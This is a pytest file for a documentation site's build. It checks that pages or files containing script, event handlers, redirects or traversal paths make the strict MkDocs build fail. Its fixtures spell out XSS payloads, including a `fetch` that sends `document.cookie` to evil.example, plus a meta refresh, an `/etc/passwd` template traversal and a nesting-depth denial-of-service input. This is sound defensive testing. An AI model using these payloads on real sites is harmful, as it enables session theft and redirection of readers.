"""The build holds what contributors add to the content policy (guidekit.site.content_policy): a page
with script of any kind, or a file under docs/ that a browser would run, fails `mkdocs build --strict`,
naming its file; so does inline script a template puts into every page."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from tests.conftest import ROOT

pytestmark = pytest.mark.build  # each test builds a one-page site

CONFIG = """site_name: Hostile
site_url: http://127.0.0.1:8000/
docs_dir: docs
strict: true
theme:
  name: material
  custom_dir: {theme}
  language: es
  font: false
plugins:
  - search
  - i18n:
      docs_structure: folder
      languages:
        - {{locale: es, default: true, name: Español, build: true}}
  - guide:
      locales_dir: {root}/locales
      pyodide_dir: {root}/node_modules/pyodide
"""


def _build(folder: Path, pages: dict[str, str], theme: Path = ROOT / "overrides") -> subprocess.CompletedProcess:
    """A throwaway one-locale site with the guide's theme and plugin, built with --strict."""
    (folder / "mkdocs.yml").write_text(CONFIG.format(theme=theme, root=ROOT), encoding="utf-8")
    for name, text in pages.items():
        (folder / "docs" / "es" / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / "docs" / "es" / name).write_text(text, encoding="utf-8")
    env = dict(os.environ, NO_MKDOCS_2_WARNING="1")
    return subprocess.run(
        [sys.executable, "-m", "mkdocs", "build", "--strict", "-d", str(folder / "site")],
        cwd=folder,
        env=env,
        capture_output=True,
        text=True,
    )


@pytest.mark.slow  # a whole build; the real site's build (tests/conftest.py) already shows no false alarm
def test_a_page_without_inline_script_builds(tmp_path):
    """The fixture itself builds: Material's snippets are files here, and script shown as code is text."""
    result = _build(tmp_path, {"index.md": '# Inicio\n\n```html\n<button onclick="go()">x</button>\n```\n'})
    assert result.returncode == 0, result.stdout + result.stderr
    assert "&lt;button onclick=" in (tmp_path / "site" / "index.html").read_text(encoding="utf-8")


@pytest.mark.parametrize(
    ("markdown", "named"),
    [
        (
            "# Hola\n\nTexto.\n\n<script>fetch('https://evil.example/?' + document.cookie)</script>\n",
            "a <script> element",
        ),
        # The attack's high finding: a script file beside the page ran under script-src 'self'.
        ('# Hola\n\nTexto.\n\n<script src="../evil.js"></script>\n', "a <script> element"),
        ('# Hola\n\n<img src="x.png" alt="" onerror="alert(1)">\n', "event handler onerror="),
        pytest.param(
            '# Hola\n\n<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>\n',
            "event handler onerror=",
            marks=pytest.mark.slow,
        ),
        pytest.param(
            "# Hola\n\n![t](https://evil.example/t.gif)\n", "src= loading from another", marks=pytest.mark.slow
        ),
        pytest.param("# Hola\n\n[pulsa](javascript:alert(1))\n", "javascript: URL", marks=pytest.mark.slow),
    ],
)
def test_script_in_a_markdown_page_fails_the_build_naming_the_file(tmp_path, markdown, named):
    result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    assert "docs/es/guia/hostil.md: the page's content has what a page may not hold: " + named in log, log
    assert not (tmp_path / "site" / "guia" / "hostil" / "index.html").exists()


def test_files_a_browser_would_run_are_refused_each_on_a_line(tmp_path):
    """Findings 1 and 2: docs/ published any .js, .html and .svg; images and downloads still pass."""
    svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1" onload="alert(1)"/></svg>'
    plain_svg = '<svg xmlns="http://www.w3.org/2000/svg"><circle r="1"/></svg>'
    files = {"evil.js": "alert(1)", "sub/evil.html": "<script>alert(1)</script>", "evil.svg": svg}
    files |= {"chart.svg": plain_svg, "data.csv": "a,b\n", ".gitkeep": ""}
    result = _build(tmp_path, {"index.md": "# Inicio\n", **files})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    errors = [line.split("-  ", 1)[1] for line in result.stderr.splitlines() if line.startswith("ERROR")]
    lines = [line for line in log.splitlines() if line.startswith(("docs/", "ERROR"))]
    assert errors and errors[0].startswith("docs/es/"), log
    shown = "\n".join(lines)
    assert "docs/es/evil.js: a .js file, which a browser may run" in shown, log
    assert "docs/es/sub/evil.html: a .html file" in shown, log
    assert "docs/es/evil.svg: an SVG with an event handler onload= on <circle>" in shown, log
    assert "chart.svg" not in shown and "data.csv" not in shown and ".gitkeep" not in shown
    assert not (tmp_path / "site" / "index.html").exists()


@pytest.mark.slow
def test_materials_own_inline_snippets_fail_the_build_naming_the_template(tmp_path):
    """An author's custom_dir overrides any one template of the generator's theme: here with Material's own
    script partials, which write inline snippets; the build names where."""
    import material

    plain = tmp_path / "plain-theme"
    shutil.copytree(
        Path(material.__file__).parent / "templates" / "partials" / "javascripts", plain / "partials" / "javascripts"
    )
    result = _build(tmp_path, {"index.md": "# Inicio\n\n```html\n<script>alert(1)</script>\n```\n"}, theme=plain)
    log = result.stdout + result.stderr
    assert result.returncode != 0
    assert "The theme's templates put into" in log and "inline <script> '__md_scope=" in log, log
    assert "Traceback" not in log


@pytest.mark.parametrize(
    "markdown",
    [
        # The finding: a refresh sent readers to another site; `unsafe-url` gave every link the page's address.
        '# Hola\n\n<meta http-equiv="refresh" content="4;url=https://evil.example/">\n',
        '# Hola\n\nTexto.\n\n<meta name="referrer" content="unsafe-url">\n',
    ],
)
def test_a_meta_that_overrides_the_policies_fails_the_build_naming_the_file(tmp_path, markdown):
    result = _build(tmp_path, {"index.md": "# Inicio\n", "guia/hostil.md": markdown})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    assert "docs/es/guia/hostil.md: the page's content has a <meta> that overrides the site's policies: '<meta " in log
    assert not (tmp_path / "site" / "guia" / "hostil" / "index.html").exists()


def test_one_calculator_placed_twice_on_a_page_fails_the_build_naming_both(tmp_path):
    """Two forms of one calculator share their element ids and the page's state for it: the second
    would write into the first."""
    page = "# Memoria\n\n<!-- calculator: memory -->\n\nOtra vez:\n\n<!-- calculator: memory -->\n"
    result = _build(tmp_path, {"index.md": "# Inicio\n", "memoria.md": page})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    assert (
        "docs/es/memoria.md: the calculator 'memory' is placed more than once on this page; "
        "place each calculator once per page"
    ) in log


def test_a_page_too_deep_for_markdown_stops_the_build_with_one_line(tmp_path):
    """Attack finding 16: a deep nested list ran the build past 600 s; now refused before Markdown runs."""
    deep = "# Hola\n\n" + "\n".join("  " * i + "- x" for i in range(2_000))
    result = _build(tmp_path, {"index.md": "# Inicio\n", "hondo.md": deep})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    assert "docs/es/hondo.md: the page holds 4,006,007 characters, over 200,000: split it into pages" in log


def test_a_template_outside_the_theme_stops_the_build_with_one_line(tmp_path):
    """Attack finding 16: `template: ../../../../etc/passwd` was a TemplateNotFound traceback."""
    page = "---\ntemplate: ../../../../etc/passwd\n---\n\n# Hola\n"
    result = _build(tmp_path, {"index.md": "# Inicio\n", "plantilla.md": page})
    log = result.stdout + result.stderr
    assert result.returncode != 0 and "Traceback" not in log, log
    assert "docs/es/plantilla.md: its front matter's `template` is '../../../../etc/passwd', not a template" in log
